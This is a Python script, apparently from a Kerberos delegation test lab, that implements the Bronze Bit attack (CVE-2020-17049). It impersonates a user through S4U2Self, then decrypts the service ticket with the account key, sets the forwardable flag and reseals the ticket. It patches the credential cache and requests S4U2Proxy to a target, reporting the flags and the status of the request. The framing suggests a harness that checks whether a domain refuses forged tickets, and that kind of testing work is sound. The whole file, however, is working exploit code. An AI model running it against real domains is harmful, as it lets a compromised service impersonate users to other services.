"""Runs inside a web server: asks for a proxy ticket with evidence that the account's own key was used on.

A service can open and seal again every ticket that is for itself, so it can also set a flag in it (row C-22,
CVE-2020-17049). Reads the account's secret, the user, the target and what to do to the evidence from standard
input; writes the ticket's flags as they were and as they are, and the minor status of the request (0 when it
was granted).
"""

import hashlib
import hmac
import json
import secrets
import struct
import sys
import tempfile
from pathlib import Path
from typing import Any

import gssapi
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from doublehop.machine.agent import make_keytab
from doublehop.machine.iis.keys import Account
from doublehop.machine.managed import aes_key

BLOCK, MAC = 16, 12
SEAL, SIGN = bytes.fromhex("b5b0582c14b6500aad56ab55aa80556a"), bytes.fromhex("62dc6e371a63a80958ac562b15404ac5")
"""Key usage 2 (a ticket's encrypted part) followed by 0xAA and by 0x55, folded to one block (RFC 3961 5.1, 5.3)."""
FLAGS = bytes.fromhex("a007030500")
"""What stands before the four bytes of flags, the first member of EncTicketPart (RFC 4120 5.3)."""
FORWARDABLE = 0x40000000


def _cbc(key: bytes, iv: bytes = bytes(BLOCK)) -> Cipher[modes.CBC]:
    return Cipher(algorithms.AES(key), modes.CBC(iv))


def _derived(key: bytes, constant: bytes) -> bytes:
    """RFC 3961's DK for AES256: the constant encrypted, then what came of it encrypted again."""
    encryptor = _cbc(key).encryptor()  # with zeros as plaintext CBC feeds each block into the next
    made: bytes = encryptor.update(constant + bytes(BLOCK))
    return made


def _opened(key: bytes, sealed: bytes) -> bytes:
    """The plaintext behind a confounder; raises ValueError when its checksum is wrong (RFC 3962, section 6)."""
    data, mac = sealed[:-MAC], sealed[-MAC:]
    tail = len(data) % BLOCK or BLOCK
    head, last, stolen = data[: -BLOCK - tail], data[-BLOCK - tail : -tail], data[-tail:]
    padding = _cbc(_derived(key, SEAL)).decryptor().update(last)[tail:]
    plain: bytes = _cbc(_derived(key, SEAL)).decryptor().update(head + stolen + padding + last)[: len(data)]
    if hmac.digest(_derived(key, SIGN), plain, hashlib.sha1)[:MAC] != mac:
        raise ValueError("the ticket is not sealed with this key")
    return plain[BLOCK:]


def _sealed(key: bytes, plain: bytes) -> bytes:
    """The plaintext sealed behind a new confounder, as long as it was."""
    plain = secrets.token_bytes(BLOCK) + plain
    tail = len(plain) % BLOCK or BLOCK
    data: bytes = _cbc(_derived(key, SEAL)).encryptor().update(plain + bytes(BLOCK - tail))
    stolen = data[: -2 * BLOCK] + data[-BLOCK:] + data[-2 * BLOCK : -BLOCK][:tail]
    return stolen + hmac.digest(_derived(key, SIGN), plain, hashlib.sha1)[:MAC]


def _content(der: bytes) -> tuple[int, int]:
    """Where the content of the value at the start begins and ends."""
    more = der[1] & 0x7F if der[1] & 0x80 else 0
    length = int.from_bytes(der[2 : 2 + more]) if more else der[1]
    return 2 + more, 2 + more + length


def _last(der: bytes, depth: int) -> bytes:
    """The content of a value's last member, of that one's last member, and so on."""
    start, end = _content(der)
    members = der[start:end]
    if depth == 0:
        return members
    while (end := _content(members)[1]) < len(members):
        members = members[end:]
    return _last(members, depth - 1)


def _cipher(ticket: bytes) -> bytes:
    """The sealed part: Ticket, SEQUENCE, [3] enc-part, EncryptedData, [2] cipher, OCTET STRING (RFC 4120 5.3)."""
    return _last(ticket, 5)


class Reader:
    """Reads MIT's credential cache format, version 4."""

    def __init__(self, data: bytes) -> None:
        self.data, self.at = data, 0

    def take(self, size: int) -> bytes:
        self.at += size
        return self.data[self.at - size : self.at]

    def number(self, form: str) -> int:
        return int(struct.unpack(f">{form}", self.take(struct.calcsize(form)))[0])

    def counted(self) -> bytes:
        return self.take(self.number("I"))

    def principal(self) -> str:
        _, count, realm = self.number("I"), self.number("I"), self.counted()
        return "/".join(self.counted().decode() for _ in range(count)) + "@" + realm.decode()

    def credential(self) -> tuple[str, str, int, bytes]:
        """Client, server, where the flags are, and the ticket."""
        client, server = self.principal(), self.principal()
        self.take(2)
        self.counted()
        self.take(4 * 4 + 1)
        flags = self.at
        self.take(4)
        for _ in range(2):  # addresses, then authorization data
            for _ in range(self.number("I")):
                self.take(2)
                self.counted()
        ticket = self.counted()
        self.counted()
        return client, server, flags, ticket


def _evidence(cache: bytes, user: str, service: str) -> tuple[int, bytes]:
    """Where the flags of the user's ticket to the service are in a cache, and the ticket."""
    reader = Reader(cache)
    reader.take(2)
    reader.take(reader.number("H"))
    reader.principal()
    while reader.at < len(cache):
        client, server, flags, ticket = reader.credential()
        if (client, server) == (user, service):
            return flags, ticket
    raise LookupError(f"no ticket of {user} to {service}")


def _set_forwardable(word: bytes) -> bytes:
    return (int.from_bytes(word) | FORWARDABLE).to_bytes(4)


def changed(cache: bytes, user: str, service: str, key: bytes, how: str) -> tuple[bytes, int, int]:
    """A cache with the evidence in it left alone, sealed again, or forged; and its flags before and after."""
    at, ticket = _evidence(cache, user, service)
    sealed = _cipher(ticket)
    plain = _opened(key, sealed)
    where = plain.index(FLAGS) + len(FLAGS)
    before = after = plain[where : where + 4]
    if how == "forged":
        after = _set_forwardable(before)
        cache = cache[:at] + _set_forwardable(cache[at : at + 4]) + cache[at + 4 :]
    if how != "as it came":
        new = _sealed(key, plain[:where] + after + plain[where + 4 :])
        assert len(new) == len(sealed)
        assert cache.count(sealed) == 1
        cache = cache.replace(sealed, new)
        assert _opened(key, _cipher(_evidence(cache, user, service)[1]))[where : where + 4] == after
    return cache, int.from_bytes(before), int.from_bytes(after)


def ask(folder: Path, *, secret: dict[str, Any], user: str, target: str, how: str) -> dict[str, int]:
    """S4U2Self, the change, S4U2Proxy."""
    account = Account(name="pool", principal=secret["principal"], folder=folder)
    make_keytab(folder / "keytab", **secret)
    evidence = account.initiator().impersonate(gssapi.Name(user, gssapi.NameType.kerberos_principal))
    path = folder / "evidence"
    evidence.store(store={"ccache": f"FILE:{path}"}, usage="initiate", overwrite=True)
    key = aes_key(secret["password"].encode(), secret["salt"].encode(), 32)
    cache, before, after = changed(path.read_bytes(), user, account.principal, key, how)
    path.write_bytes(cache)
    context = gssapi.SecurityContext(
        name=gssapi.Name(target, gssapi.NameType.hostbased_service), usage="initiate", mech=gssapi.MechType.kerberos,
        creds=gssapi.Credentials(usage="initiate", store={"ccache": f"FILE:{path}"}),
    )
    minor = 0
    try:
        context.step()
    except gssapi.exceptions.GSSError as refusal:
        minor = refusal.min_code
    return {"before": before, "after": after, "minor": minor}


with tempfile.TemporaryDirectory() as made:
    json.dump(ask(Path(made), **json.load(sys.stdin)), sys.stdout)
